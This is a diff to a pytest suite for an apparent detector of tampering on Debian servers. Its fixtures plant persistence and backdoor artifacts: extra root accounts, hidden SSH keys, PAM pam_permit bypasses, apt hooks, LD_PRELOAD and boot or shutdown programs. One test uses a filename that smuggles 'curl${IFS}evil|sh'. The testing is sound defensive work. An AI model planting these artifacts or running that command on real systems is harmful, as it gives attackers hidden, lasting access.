@@ -112,6 +112,7 @@ class Droplet:
         self.put("etc/crontab", DEBIANS_CRON)
         listed = ["fail2ban.service", "debug-shell.service"]
         lines = "".join(f"/lib/systemd/system/{name}\n" for name in listed) + "/etc/cron.d/e2scrub\n"
+        lines += "/usr/share/pam-configs/unix\n"
         self.put("var/lib/dpkg/info/some.list", f"/.\n/etc\n{lines}")
         digest = hashlib.md5(DEBIANS_CRON.encode(), usedforsecurity=False).hexdigest()
         sums = f" /etc/cron.d/e2scrub {digest}\n /etc/crontab {digest}\n"
@@ -173,6 +174,9 @@ KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
     "root's group": (add("etc/passwd", "toor:x:500:0::/home/toor:/bin/false\n"), "account:toor", "remove"),
     "a shell": (add("etc/passwd", "svc:x:500:500::/home/svc:/bin/dash\n"), "account:svc", "remove"),
     "no shell named, which is /bin/sh": (add("etc/passwd", "svc:x:500:500::/home/svc:\n"), "account:svc", "remove"),
+    "a second root, in the C library's short form": (add("etc/passwd", "toor:x:0:0\n"), "account:toor", "remove"),
+    "a uid with a sign": (add("etc/passwd", "toor:x:+0:5::/:/bin/false\n"), "account:toor", "remove"),
+    "a name with a blank": (add("etc/passwd", " deploy:x:0:5::/:/bin/sh\n"), "account:\\x20deploy", "remove"),
     "a person": (add("etc/passwd", "eve:x:1001:1001::/home/eve:/usr/sbin/nologin\n"), "account:eve", "remove"),
     "a password": (add("etc/passwd", "svc:$y$j9T:9:9::/:/bin/false\n"), "password:svc", "hand"),
     "no password at all": (add("etc/passwd", "svc::9:9::/:/bin/false\n"), "password:svc", "hand"),
@@ -190,7 +194,22 @@ KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
         f"key:ci:{FINGERPRINT}",
         "remove",
     ),
+    "a key behind one of ours in quotes": (
+        add("root/.ssh/authorized_keys", f'environment="A= ssh-rsa {OPERATORS} " ssh-rsa {KEY}\n'),
+        f"key:root:{FINGERPRINT}",
+        "remove",
+    ),
+    "a key of an operator's, with a quote that is escaped": (
+        add("root/.ssh/authorized_keys", f'environment="A=\\" ssh-rsa {OPERATORS} " ssh-rsa {KEY}\n'),
+        f"key:root:{FINGERPRINT}",
+        "remove",
+    ),
     # sudo
+    "a rule that no prefix of the file shows": (
+        add("etc/sudoers.d/90-cloud-init-users", "# x\n" * (1 << 16) + "eve ALL=(ALL) ALL\n"),
+        "/etc/sudoers.d/90-cloud-init-users",
+        "remove",
+    ),
     "everything for somebody": (
         put("etc/sudoers.d/zz", "nobody ALL=(ALL) NOPASSWD: ALL\n"),
         "/etc/sudoers.d/zz",
@@ -233,6 +252,33 @@ KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
         f"/{SYSTEM}/multi-user.target.wants/x.service",
         "remove",
     ),
+    "a unit of a portable service": (
+        put("etc/systemd/system.attached/x.service"),
+        "/etc/systemd/system.attached/x.service",
+        "remove",
+    ),
+    "a program for the environment": (
+        put("etc/systemd/system-environment-generators/x"),
+        "/etc/systemd/system-environment-generators/x",
+        "remove",
+    ),
+    "a program at each shutdown": (
+        put("usr/lib/systemd/system-shutdown/x"),
+        "/usr/lib/systemd/system-shutdown/x",
+        "remove",
+    ),
+    "a program of cloud-init's at each boot": (
+        put("var/lib/cloud/scripts/per-boot/x"),
+        "/var/lib/cloud/scripts/per-boot/x",
+        "remove",
+    ),
+    # run-parts --lsbsysinit and certbot run these
+    "a program named as ucf's": (put("etc/update-motd.d/9-x.ucf-old"), "/etc/update-motd.d/9-x.ucf-old", "remove"),
+    "a hook named as dpkg's": (
+        put("etc/letsencrypt/renewal-hooks/deploy/x.dpkg-old"),
+        "/etc/letsencrypt/renewal-hooks/deploy/x.dpkg-old",
+        "remove",
+    ),
     "a generator": (put("etc/systemd/system-generators/x"), "/etc/systemd/system-generators/x", "remove"),
     "a mask of ours": (link(f"{SYSTEM}/fail2ban.service", "/dev/null"), f"/{SYSTEM}/fail2ban.service", "site"),
     "a mask by an empty file": (put(f"{SYSTEM}/fail2ban.service", ""), f"/{SYSTEM}/fail2ban.service", "site"),
@@ -260,6 +306,14 @@ KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
         "site",
     ),
     "modules": (put("etc/modules-load.d/x.conf"), "/etc/modules-load.d/x.conf", "remove"),
+    "cloud-init's rule of udev with a program": (
+        put(
+            "etc/udev/rules.d/70-persistent-net.rules",
+            'SUBSYSTEM=="net", ACTION=="add", RUN+="/x", NAME="eth0"\n',
+        ),
+        "/etc/udev/rules.d/70-persistent-net.rules",
+        "remove",
+    ),
     "udev": (put("etc/udev/rules.d/x.rules"), "/etc/udev/rules.d/x.rules", "remove"),
     # the rest
     "a source of packages": (
@@ -272,17 +326,55 @@ KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
         "/etc/apt/sources.list",
         "remove",
     ),
+    "a mirror of packages": (
+        put("etc/apt/mirrors/debian.list", "https://packages.example.com/debian\n"),
+        "/etc/apt/mirrors/debian.list",
+        "remove",
+    ),
     "a key of packages": (put("etc/apt/trusted.gpg.d/x.asc"), "/etc/apt/trusted.gpg.d/x.asc", "remove"),
     "apt's hook": (
         put("etc/apt/apt.conf.d/20auto-upgrades", "DPkg::Pre-Invoke x;\n"),
         "/etc/apt/apt.conf.d/20auto-upgrades",
         "remove",
     ),
+    "apt's hook in cloud-init's file": (
+        put("etc/apt/apt.conf.d/94cloud-init-config", 'APT::Update::Pre-Invoke:: "/x";\n'),
+        "/etc/apt/apt.conf.d/94cloud-init-config",
+        "remove",
+    ),
+    "apt's hook behind a comment": (
+        put("etc/apt/apt.conf.d/20auto-upgrades", '/* */ APT::Update::Pre-Invoke:: "/x";\n'),
+        "/etc/apt/apt.conf.d/20auto-upgrades",
+        "remove",
+    ),
+    "apt's file including another": (
+        put("etc/apt/apt.conf.d/20auto-upgrades", '#include "/x";\n'),
+        "/etc/apt/apt.conf.d/20auto-upgrades",
+        "remove",
+    ),
     "nginx": (put("etc/nginx/conf.d/x.conf"), "/etc/nginx/conf.d/x.conf", "remove"),
     "preload": (put("etc/ld.so.preload"), "/etc/ld.so.preload", "remove"),
-    "PAM": (add("etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"), "/etc/pam.d/common-auth", "remove"),
+    "PAM": (add("etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"), "/etc/pam.d/common-auth", "hand"),
+    "PAM that lets everybody in": (
+        put("etc/pam.d/common-auth", "auth required pam_permit.so\n"),
+        "/etc/pam.d/common-auth",
+        "hand",
+    ),
+    "PAM that passes by its refusal": (
+        put("etc/pam.d/common-auth", f"auth [default=1] pam_permit.so\n{MODULES}auth required pam_permit.so\n"),
+        "/etc/pam.d/common-auth",
+        "hand",
+    ),
+    "PAM whose refusal is of another kind": (
+        put("etc/pam.d/common-auth", "account requisite pam_deny.so\nauth required pam_permit.so\n"),
+        "/etc/pam.d/common-auth",
+        "hand",
+    ),
+    "a profile of PAM": (put("usr/share/pam-configs/x"), "/usr/share/pam-configs/x", "remove"),
+    "sshd's configuration": (put("etc/ssh/sshd_config"), "/etc/ssh/sshd_config", "hand"),
     "a PAM file": (put("etc/pam.d/x"), "/etc/pam.d/x", "remove"),
     "the environment": (put("etc/environment", "LD_PRELOAD=/tmp/x.so\n"), "/etc/environment", "remove"),
+    "a path of programs": (put("etc/environment", "PATH=/tmp/x:/usr/bin\n"), "/etc/environment", "remove"),
     "rc.local": (put("etc/rc.local"), "/etc/rc.local", "remove"),
     "before Debian's programs": (put("usr/local/sbin/sudo"), "/usr/local/sbin/sudo", "remove"),
     "an authority": (put("usr/local/share/ca-certificates/x.crt"), "/usr/local/share/ca-certificates/x.crt", "remove"),
@@ -398,6 +490,52 @@ def test_names_and_contents_are_shown_printable_and_no_command_is_shown(bare: Dr
     assert text.replace("\n", "").isprintable()
     assert "s3cr3t" not in text
     assert "\\x1b" in text
+
+
+def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: Droplet) -> None:
+    """An operator pastes the next step into the shell of their own machine."""
+    bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
+    (line,) = foreign.problems(bare.look())
+    assert line.endswith("put it right by hand, or accept it in group_data (foreign_accepted)")
+    with pytest.raises(RefusedError, match="nothing foreign"):
+        bare.remove("/etc/cron.d/x;curl${IFS}evil|sh")
+
+
+def test_a_blank_makes_no_name_pass_for_an_accepted_one(bare: Droplet) -> None:
+    bare.declared["accepted"] = {"/etc/sudoers.d/x": "we know"}
+    for name in ("x", "x ", "x\n"):
+        bare.put(f"etc/sudoers.d/{name}", "eve ALL=(ALL) ALL\n")
+    assert sorted(bare.names()) == ["/etc/sudoers.d/x\\x0a", "/etc/sudoers.d/x\\x20"]
+
+
+def test_what_debian_and_cloud_init_make_is_not_foreign(bare: Droplet) -> None:
+    bare.put("etc/cron.d/e2scrub.dpkg-dist", "x")
+    bare.put("etc/systemd/system/bot.service.dpkg-old", "x")
+    permit = "auth required pam_permit.so\n"
+    bare.add("etc/pam.d/common-auth", permit)
+    bare.put(
+        "etc/pam.d/common-session", f"{permit.replace('required', '[default=1]')}{permit}".replace("auth", "session")
+    )
+    pipelining = "//Written by cloud-init per 'apt_pipelining'\nAcquire::http::Pipeline-Depth \"0\";\n"
+    bare.put("etc/apt/apt.conf.d/90cloud-init-pipelining", pipelining)
+    bare.put("etc/apt/mirrors/debian.list", "https://deb.debian.org/debian\n")
+    uris = "Types: deb deb-src\nURIs: mirror+file:///etc/apt/mirrors/debian.list\n"
+    bare.put("etc/apt/sources.list.d/debian.sources", f"{uris}Suites: trixie trixie-updates\nComponents: main\n")
+    bare.put("etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games"\n')
+    rule = 'SUBSYSTEM=="net", ACTION=="add", DRIVERS=="?*", ATTR{address}=="de:ad:00:00:00:01", NAME="eth0"\n'
+    bare.put("etc/udev/rules.d/70-persistent-net.rules", rule)
+    assert bare.names() == []
+
+
+def test_of_sshd_s_configuration_an_image_may_have_set_what_our_drop_in_decides(bare: Droplet) -> None:
+    debians = "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n"
+    bare.put("usr/share/openssh/sshd_config", f"# Debian's\n{debians}")
+    bare.put("var/lib/ucf/hashfile", f"{'0' * 32}  /etc/ssh/sshd_config\n")
+    bare.put("etc/ssh/sshd_config", f"PermitRootLogin yes\n{debians}PasswordAuthentication no\n")
+    assert bare.names() == []
+    for more in ("PermitRootLogin yes\nUsePAM no\n", "Match User eve\nPermitRootLogin yes\n"):
+        bare.put("etc/ssh/sshd_config", debians + more)
+        assert (bare.only().name, bare.only().remedy) == ("/etc/ssh/sshd_config", "hand")
 
 
 def test_a_file_goes_by_its_name(bare: Droplet) -> None:
